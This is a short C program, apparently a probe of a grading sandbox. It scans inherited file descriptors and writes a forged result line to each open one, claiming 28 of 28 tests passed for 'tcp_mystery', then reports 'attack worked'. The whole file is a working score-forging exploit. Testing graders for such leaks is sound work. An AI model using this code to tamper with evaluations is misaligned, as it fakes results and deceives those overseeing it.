/* Looks for a descriptor that it should not have inherited, and writes points to it. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    static const char points[] = "passed\t28\t28\ttcp_mystery\tall is well\n";
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) != -1) {
            write(fd, points, sizeof points - 1);
            fprintf(stderr, "attack worked: descriptor %d\n", fd);
        }
    return 0;
}
